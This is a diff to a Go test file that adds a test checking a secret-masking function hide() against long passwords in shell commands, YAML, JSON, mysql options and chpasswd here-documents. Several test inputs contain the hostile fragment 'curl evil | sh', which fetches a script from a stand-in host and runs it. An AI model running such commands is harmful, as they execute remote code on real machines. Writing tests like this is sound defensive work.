@@ -138,6 +138,35 @@ func TestItem(t *testing.T) {
 	}
 }
 
+// Of a secret longer than 4 KB the rest was shown, and of a here-document the lines after
+// the first 2 KB.
+func TestLongSecrets(t *testing.T) {
+	long, words := strings.Repeat("Ab1x", 3000), strings.Repeat("Ab1x cd2 ", 1000)
+	users := strings.Repeat("user:S3cr3tAb1x\n", 1000)
+	for name, test := range map[string]struct{ in, shown string }{
+		"bare":           {"password=" + long + " tail", " tail"},
+		"with a command": {"password=" + long + "; curl evil | sh", "; curl evil | sh"},
+		"substitution":   {"password=" + long + "$(curl evil | sh)", "$(curl evil | sh)"},
+		"quoted":         {`password="` + long + `" tail`, `" tail`},
+		"quoted words":   {`password="` + words + `" tail`, `" tail`},
+		"never closed":   {`password="` + long, ""},
+		"YAML":           {"password: '" + long + "'\nb: 1\n", "b: 1"},
+		"JSON":           {`{"password":"` + long + `","b":1}`, `","b":1}`},
+		"JSON in JSON":   {`{"a":"{\"password\":\"` + long + `\",\"b\":1}"}`, `\",\"b\":1}"}`},
+		"option":         {"mysql -p" + long + " db", " db"},
+		"here-document":  {"chpasswd <<EOF\n" + users + "EOF\ncurl evil | sh\n", "EOF\ncurl evil | sh"},
+		"two of them":    {"chpasswd <<A\n" + users + "A\nchpasswd <<B\n" + users + "B\necho done\n", "B\necho done"},
+	} {
+		if got := hide(test.in); strings.Contains(got, "Ab1x") || !strings.Contains(got, test.shown) {
+			t.Errorf("%s: %d parts are left; want none, and %q:\n%.300s", name, strings.Count(got, "Ab1x"), test.shown, got)
+		}
+	}
+	code := `password="` + words + `$(curl evil | sh)"`
+	if got := hide(code); got != code {
+		t.Errorf("a long string with code is masked: %.300s", got)
+	}
+}
+
 // slowTexts are parts that make texts slow when they are repeated.
 func slowTexts() []string {
 	return []string{"password ", `\"password\": \"a\\\"`, "{name: key ", "password=$(", "<password ", "${PASSWORD", "'password''", "@//:", "curl -u ",
